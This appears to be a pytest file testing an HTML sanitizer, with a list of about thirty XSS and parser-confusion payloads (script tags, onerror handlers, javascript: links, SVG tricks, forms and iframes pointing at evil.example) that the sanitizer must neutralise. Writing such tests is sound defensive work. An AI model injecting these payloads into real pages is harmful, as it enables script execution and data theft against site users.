"""Hostile HTML comes out as something that can only be looked at."""

import pytest

from microturn.background.drawing.markup import MOST_DEEP, harmless

HOSTILE = [
    "<script>bad()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/>bad()",
    "<img src=x onerror=bad()>",
    "<img src='https://evil.example/p.png'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<a href='javascript:bad()'>x</a>",
    "<a href=' jav\tascript:bad()'>x</a>",
    "<svg onload=bad()><script>bad()</script><a xlink:href='javascript:bad()'><text>x</text></a></svg>",
    "<svg><use href='https://evil.example/#x'/><image href='https://evil.example/x.png'/></svg>",
    "<svg><animate attributeName=href values=javascript:bad() /><foreignObject><iframe src=x></foreignObject></svg>",
    "<iframe src='https://evil.example'></iframe><iframe srcdoc='&lt;script>bad()&lt;/script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'><link rel=preconnect href='https://evil.example'>",
    "<form action='https://evil.example'><input name=x><button formaction='https://evil.example'>x</button></form>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<style></style><script>bad()</script>",
    "<style><!--</style><script>bad()</script>-->",
    "<noscript><p title='</noscript><script>bad()</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=bad()>",
    "<!--><script>bad()</script>-->",
    "<![CDATA[<script>bad()</script>]]>",
    "<p style=x onclick\n=bad()>x",
    "<div/onmouseover='bad()'>x",
    "<video src='https://evil.example/v' autoplay></video><audio src=x></audio>",
    "<details ontoggle=bad() open>x</details>",
    "<template><script>bad()</script></template>",
    "<textarea></textarea><script>bad()</script>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_runs_and_nothing_is_fetched(html: str) -> None:
    kept = harmless(html).lower()
    for sign in (
        "<script",
        "<iframe",
        "<meta",
        "<base",
        "<link",
        "<form",
        "<input",
        "<object",
        "<embed",
        "<video",
        "srcdoc",
    ):
        assert sign not in kept
    for sign in ("src=", "href=", "xlink", "javascript:", "formaction"):
        assert sign not in kept
    tags = [part.split(">")[0] for part in kept.split("<")[1:]]
    assert not [tag for tag in tags if " on" in tag]


def test_what_is_harmless_stays() -> None:
    for html in (
        '<p class="a" style="color: red">x <b>y</b></p>',
        '<table><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
        '<img alt="a" src="data:image/png;base64,aGVsbG8=">',
        '<svg viewbox="0 0 1 1"><path d="M0 0L1 1" stroke="#fff"></path><use href="#a"></use></svg>',
        "<style>p > b { color: red; }</style>",
    ):
        assert harmless(html) == html


def test_a_link_is_its_text_and_its_address() -> None:
    said = '<b>here</b> <span class="address">https://x.example/a?b&amp;c</span>'
    assert harmless("<a href='https://x.example/a?b&c' onclick=bad()><b>here</b></a>") == said
    assert harmless("<a href='https://x.example'>https://x.example</a>") == "https://x.example"


def test_what_is_left_open_is_closed_and_depth_has_an_end() -> None:
    assert harmless("<p><b>x") == "<p><b>x</b></p>" and harmless("</p></b>x") == "x"
    assert harmless("<p><b>x</p>y</b>") == "<p><b>x</b></p>y"
    assert harmless("<div>" * 10_000).count("<div>") == MOST_DEEP
